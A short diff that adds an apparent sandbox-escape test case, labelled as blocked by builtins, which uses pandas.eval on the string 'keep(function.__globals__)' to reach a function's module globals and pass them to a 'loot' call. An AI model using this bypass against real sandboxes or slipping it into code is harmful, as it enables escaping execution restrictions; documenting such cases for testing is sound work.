@@ -1,0 +1,20 @@
+# Read a forbidden attribute in evaluated text.
+# mechanism: pandas.eval
+# stopped by: builtins
+# reason: the library evaluates text unguarded
+# imports: pandas
+
+import json
+
+import pandas
+
+kept = []
+
+
+def keep(thing):
+    kept.append(thing)
+    return 1
+
+
+pandas.eval("keep(function.__globals__)", local_dict={"keep": keep, "function": json.dumps})
+loot(kept[0])
